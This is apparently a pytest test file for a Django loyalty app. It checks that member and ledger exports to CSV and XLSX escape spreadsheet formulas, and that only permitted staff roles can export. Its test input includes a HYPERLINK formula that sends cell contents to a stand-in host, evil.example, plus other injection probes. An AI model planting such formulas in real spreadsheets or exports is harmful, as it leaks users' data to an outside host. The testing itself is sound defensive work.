"""Exports from the admin (django-import-export), CSV and XLSX, with formulas escaped."""

from __future__ import annotations

import csv
import io
from http import HTTPStatus

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from loyalty.exports import PostingResource
from members.exports import MemberResource, escape_formula
from members.roles import CUSTOMER_SERVICE, OPERATOR
from members.staff import staff_user_ensure

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def _client(role: str) -> Client:
    user, _ = staff_user_ensure(username=f"user-{role}", password="x", role=role)
    client = Client()
    client.force_login(user)
    return client


def _export(client: Client, url_name: str, resource, file_format: int) -> bytes:
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(
        reverse(url_name), {"format": str(file_format), "resource": "0", **fields}
    )
    assert response.status_code == HTTPStatus.OK, response.content[:500]
    return response.content


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-12.50", "-12.50"),
        ("Ada", "Ada"),
        (42, 42),
        (None, None),
    ],
)
def test_escape_formula(value, escaped):
    assert escape_formula(value) == escaped


def test_a_member_named_with_a_formula_exports_escaped_to_csv(make_member):
    make_member(external_id="C-1", first_name=FORMULA, last_name="@evil")
    client = _client(OPERATOR)

    content = _export(client, "admin:members_member_export", MemberResource, 0)

    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert (rows[0]["external_id"], rows[0]["first_name"], rows[0]["last_name"]) == (
        "C-1",
        "'" + FORMULA,
        "'@evil",
    )


def test_a_member_named_with_a_formula_exports_escaped_to_xlsx(make_member):
    make_member(external_id="C-1", first_name=FORMULA)
    client = _client(OPERATOR)

    content = _export(client, "admin:members_member_export", MemberResource, 1)

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    values = [cell.value for cell in sheet[2]]
    cell = sheet.cell(row=2, column=header.index("first_name") + 1)
    assert values[header.index("first_name")] == "'" + FORMULA
    assert cell.data_type == "s"  # a string, never a formula


def test_the_ledger_exports_with_reasons_escaped(make_member, record_order):
    member = make_member(external_id="=C-9")
    record_order(member, "O-1", "12.00")
    client = _client(OPERATOR)

    content = _export(client, "admin:loyalty_posting_export", PostingResource, 0)

    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [(r["member"], r["kind"], r["points"], r["order"]) for r in rows] == [
        ("'=C-9", "earn", "12", "O-1")
    ]


def test_exports_need_the_export_permission(db):
    client = _client(CUSTOMER_SERVICE)

    members = client.get(reverse("admin:members_member_export"))
    ledger = client.get(reverse("admin:loyalty_posting_export"))

    assert (members.status_code, ledger.status_code) == (
        HTTPStatus.FORBIDDEN,
        HTTPStatus.FORBIDDEN,
    )
